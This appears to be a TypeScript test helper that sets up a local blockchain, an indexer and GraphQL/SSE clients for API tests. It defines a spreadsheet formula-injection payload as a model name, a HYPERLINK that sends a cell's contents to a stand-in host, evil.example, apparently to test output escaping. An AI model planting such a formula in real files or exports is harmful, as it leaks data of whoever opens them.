/**
 * Test-only: one indexed scenario per API test file. Starts anvil, deploys, runs the simulator
 * (tiny scale unless asked for small), adds a few API-specific facts (a model with a hostile name whose inference pays a
 * known account), then runs `ponder start` with this repo's API on a free port and its own
 * database, and waits until everything is indexed. The server stays up for the tests.
 */
import { keccak256, toHex, type Address } from "viem";
import { AttributionEngineAbi, DatanetRegistryAbi, ModelRegistryAbi, OpenTokenAbi } from "../abis/index.js";
import { startProtocolChain, type ProtocolChain } from "./protocol.js";
import { freshDatabase, startIndexer, writeDeploymentFile, type DbKind, type IndexerRun } from "./indexer.js";
import { simulate, type Manifest } from "../sim/index.js";
import { merkleRoot } from "../core/merkle.js";
import { mineEmptyBlocks, SETTLE_BLOCKS } from "../chain/anvil.js";

export const HOSTILE_MODEL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click"),"quoted"';

export interface ApiScenario {
  chain: ProtocolChain;
  manifest: Manifest;
  server: IndexerRun;
  url: string;
  /** Accounts the simulator and the extras used. */
  accounts: Address[];
  /** The account paid (as contributor and as datanet owner) by the hostile-named model's inference. */
  extraEarner: Address;
  hostileModelId: bigint;
  /** The indexer's database (env for another Ponder process on it: DATABASE_URL or PGLITE_DIR) and schema. */
  db: { env: Record<string, string>; schema: string };
  /** The deployment file the indexer reads (DEPLOYMENT_FILE). */
  deploymentFile: string;
  stop(): Promise<void>;
}

/** A model with a hostile name, trained honestly on a fresh datanet, and one paid inference. */
async function addExtras(chain: ProtocolChain): Promise<{ earner: Address; modelId: bigint }> {
  const pick = (i: number): Address => {
    const a = chain.accounts[i];
    if (!a) throw new Error(`anvil has no account #${i}`);
    return a;
  };
  const deployer = chain.deployer;
  const earner = pick(8);
  const payer = pick(9);
  const { datanets, models, engine, token } = chain;
  const datanetId = (await chain.client.readContract({ address: datanets, abi: DatanetRegistryAbi, functionName: "datanetCount" })) + 1n;
  await chain.send(earner, datanets, { abi: DatanetRegistryAbi, functionName: "createDatanet", args: ["API extras, \"quoted\"\r\nline", "https://example.org/x", 2500, false] });
  const firstContribution = (await chain.client.readContract({ address: datanets, abi: DatanetRegistryAbi, functionName: "contributionCount" })) + 1n;
  const ids: bigint[] = [];
  for (let i = 0; i < 3; i++) {
    await chain.send(earner, datanets, { abi: DatanetRegistryAbi, functionName: "submitContribution", args: [datanetId, keccak256(toHex(`api-extra-${i}`)), `ipfs://extra${i}`, 100n + BigInt(i)] });
    ids.push(firstContribution + BigInt(i));
  }
  for (const id of ids) await chain.send(earner, datanets, { abi: DatanetRegistryAbi, functionName: "reviewContribution", args: [id, 1, "ok"] });
  const modelId = (await chain.client.readContract({ address: models, abi: ModelRegistryAbi, functionName: "modelCount" })) + 1n;
  await chain.send(earner, models, { abi: ModelRegistryAbi, functionName: "registerModel", args: [HOSTILE_MODEL_NAME, "-base+1", 0n, "@meta"] });
  await chain.send(earner, models, { abi: ModelRegistryAbi, functionName: "recordTraining", args: [modelId, [datanetId], merkleRoot(ids), ids.length, keccak256(toHex("artifact"))] });
  const fee = 10n ** 18n + 7n;
  await chain.send(deployer, token, { abi: OpenTokenAbi, functionName: "mint", args: [payer, fee * 10n] });
  await chain.send(payer, token, { abi: OpenTokenAbi, functionName: "approve", args: [engine, fee * 10n] });
  // Two contributions of the same contributor in one inference: one CONTRIBUTOR accrual from two attributions.
  await chain.send(deployer, engine, {
    abi: AttributionEngineAbi,
    functionName: "recordInference",
    args: [modelId, keccak256(toHex("api-extra-output")), payer, fee, 1, [ids[0]!, ids[2]!], [333_333, 666_667]],
  });
  return { earner, modelId };
}

export async function startApiScenario(kind: DbKind, opts: { seed?: number; env?: Record<string, string>; scale?: "tiny" | "small"; fixedClock?: boolean } = {}): Promise<ApiScenario> {
  const seed = opts.seed ?? 7;
  const chain = await startProtocolChain({ fixedClock: opts.fixedClock });
  let server: IndexerRun | undefined;
  let deployment: ReturnType<typeof writeDeploymentFile> | undefined;
  const db = freshDatabase(kind);
  try {
    const manifest = await simulate({ rpcUrl: chain.anvil.rpcUrl, deployment: chain.deployment, scale: opts.scale ?? "tiny", seed });
    const extras = await addExtras(chain);
    // Settled: the scenario's blocks are final for the indexer, so its totals are rolled up (api/totals/).
    await mineEmptyBlocks(chain.anvil.rpcUrl, SETTLE_BLOCKS);
    const last = await chain.client.getBlockNumber();
    deployment = writeDeploymentFile(chain.deployment);
    server = await startIndexer({ rpcUrl: chain.anvil.rpcUrl, deploymentFile: deployment.path, db, extraEnv: opts.env });
    await server.waitForBlock(last, 300_000);
    const srv = server;
    const dep = deployment;
    return {
      chain,
      manifest,
      server: srv,
      url: srv.url,
      accounts: [...new Set([...manifest.accounts.map((a) => a.toLowerCase() as Address), extras.earner.toLowerCase() as Address])],
      extraEarner: extras.earner.toLowerCase() as Address,
      hostileModelId: extras.modelId,
      db: { env: db.env, schema: db.source.schema },
      deploymentFile: dep.path,
      stop: async () => {
        await srv.stop();
        dep.cleanup();
        await db.cleanup();
        await chain.stop();
      },
    };
  } catch (err) {
    await server?.stop();
    deployment?.cleanup();
    await db.cleanup().catch(() => {});
    await chain.stop();
    throw err;
  }
}

/** POSTs a GraphQL query; returns status and parsed body. */
export async function gql<T = Record<string, unknown>>(url: string, query: string, variables?: Record<string, unknown>): Promise<{ status: number; data?: T; errors?: { message: string; extensions?: { code?: string } }[] }> {
  const res = await fetch(`${url}/graphql`, { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ query, variables }) });
  const body = (await res.json()) as { data?: T; errors?: { message: string; extensions?: { code?: string } }[] };
  return { status: res.status, ...body };
}

/** One GraphQL-over-SSE message as a test reads it: the parsed `next` payload, or the stream's end. */
export type SseMessage = { event: "next"; data: { data?: Record<string, unknown>; errors?: { message: string; extensions?: { code?: string } }[] } } | { event: "complete" };

/**
 * Opens a subscription (graphql-sse, distinct connections mode) with plain fetch and reads its
 * messages one by one; `close()` drops the connection as a client going away would. The HTTP
 * status and body of a refused request are in `refused`.
 */
export async function openEventStream(url: string, query: string, variables?: Record<string, unknown>, headers?: Record<string, string>) {
  const abort = new AbortController();
  const res = await fetch(`${url}/graphql`, { method: "POST", headers: { ...headers, "content-type": "application/json", accept: "text/event-stream" }, body: JSON.stringify({ query, variables }), signal: abort.signal });
  if (res.status !== 200 || !res.body) return { refused: { status: res.status, body: (await res.json()) as { errors?: { message: string; extensions?: { code?: string } }[] } }, next: async (): Promise<SseMessage> => ({ event: "complete" }), close: () => abort.abort() };
  const reader = res.body.pipeThrough(new TextDecoderStream()).getReader();
  let buffer = "";
  const next = async (timeoutMs = 60_000): Promise<SseMessage> => {
    const deadline = Date.now() + timeoutMs;
    for (;;) {
      const end = buffer.indexOf("\n\n");
      if (end >= 0) {
        const block = buffer.slice(0, end);
        buffer = buffer.slice(end + 2);
        const lines = block.split("\n");
        const event = lines.find((l) => l.startsWith("event:"))?.slice(6).trim();
        const data = lines.filter((l) => l.startsWith("data:")).map((l) => l.slice(5).trimStart()).join("\n");
        if (event === "complete") return { event: "complete" };
        if (event === "next") return { event: "next", data: JSON.parse(data) };
        continue; // a keep-alive comment
      }
      const left = deadline - Date.now();
      if (left <= 0) throw new Error(`no event within ${timeoutMs} ms`);
      let timer: NodeJS.Timeout | undefined;
      const chunk = await Promise.race([reader.read(), new Promise<never>((_, reject) => (timer = setTimeout(() => reject(new Error(`no event within ${timeoutMs} ms`)), left)))]).finally(() => clearTimeout(timer));
      if (chunk.done) return { event: "complete" };
      buffer += chunk.value;
    }
  };
  return { refused: undefined, next, close: () => abort.abort() };
}
